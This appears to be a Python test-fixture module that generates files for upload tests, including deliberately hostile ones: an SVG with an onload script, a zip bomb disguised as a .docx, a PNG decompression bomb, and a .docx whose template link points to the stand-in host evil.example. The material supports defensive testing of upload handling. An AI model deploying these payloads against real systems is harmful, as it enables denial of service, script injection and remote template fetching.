"""Files to upload, made in the test: images with Pillow, a minimal PDF, office files, hostile ones."""
import io
import struct
import zipfile
import zlib

from PIL import Image

PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
       b"trailer<</Root 1 0 R>>\n%%EOF\n")
CSV = b"measure,before,after\nmedian reply,9 hours,55 minutes\n"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>'


def image(fmt: str = "PNG", size=(40, 30), exif: bool = False) -> bytes:
    picture = Image.new("RGB", size, (200, 40, 40))
    out = io.BytesIO()
    extra = {}
    if exif:
        data = Image.Exif()
        data[0x010F] = "SpyCam Inc"  # Make
        data[0x8825] = {2: (51.0, 30.0, 0.0)}  # GPS
        extra["exif"] = data.tobytes()
    picture.save(out, fmt, **extra)
    return out.getvalue()


def docx(paragraphs=("Hello",), heading=None, picture: bytes | None = None, table=False) -> bytes:
    import docx as python_docx
    from docx.shared import Inches

    document = python_docx.Document()
    if heading:
        document.add_heading(heading, 0)
    for text in paragraphs:
        if text.startswith("# "):
            document.add_heading(text[2:], 1)
        elif text.startswith("- "):
            document.add_paragraph(text[2:], style="List Bullet")
        else:
            document.add_paragraph(text)
    if table:
        cells = document.add_table(rows=2, cols=2)
        texts = {(0, 0): "Measure", (0, 1): "After", (1, 0): "Median reply", (1, 1): "55 minutes"}
        for (row, col), text in texts.items():
            cells.cell(row, col).text = text
    if picture is not None:
        document.add_picture(io.BytesIO(picture), width=Inches(1))
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def zipped(parts: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


XLSX = zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})
ODT = zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office:document-content/>"},
             zipfile.ZIP_STORED)


def zip_bomb(megabytes: int = 8) -> bytes:
    """A .docx-shaped zip whose main part unpacks to about a thousand times its packed size."""
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"\0" * (megabytes * 1024 * 1024)})


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(width=30000, height=30000) -> bytes:
    """A PNG whose header claims 900 million pixels (a decompression bomb): a few bytes on disk."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(b"\0" * 64))
            + _chunk(b"IEND", b""))


def with_external_reference(document: bytes) -> bytes:
    """The .docx with an attached template linked from outside (TargetMode="External")."""
    source = zipfile.ZipFile(io.BytesIO(document))
    parts = {name: source.read(name) for name in source.namelist()}
    rels = b'<?xml version="1.0"?>' \
           b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' \
           b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/' \
           b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    parts["word/_rels/settings.xml.rels"] = rels
    return zipped(parts)
